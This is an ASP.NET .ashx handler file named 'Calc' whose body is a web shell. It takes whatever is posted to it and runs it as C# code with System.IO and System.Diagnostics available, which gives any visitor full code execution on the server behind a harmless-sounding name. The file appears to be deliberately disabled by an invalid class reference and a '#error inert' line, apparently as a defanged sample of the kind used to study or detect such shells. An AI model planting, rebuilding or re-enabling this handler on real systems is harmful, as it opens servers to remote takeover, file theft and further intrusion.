<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System.IO;
using System.Web;
using Microsoft.CodeAnalysis.CSharp.Scripting;
using Microsoft.CodeAnalysis.Scripting;

public class Calc : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        var formula = new StreamReader(context.Request.InputStream).ReadToEnd();
        var options = ScriptOptions.Default.WithReferences(typeof(HttpContext).Assembly).WithImports("System", "System.IO", "System.Diagnostics");
        var result = CSharpScript.EvaluateAsync<object>(formula, options, globals: context).Result;
        context.Response.Write(result);
    }
    public bool IsReusable { get { return false; } }
}
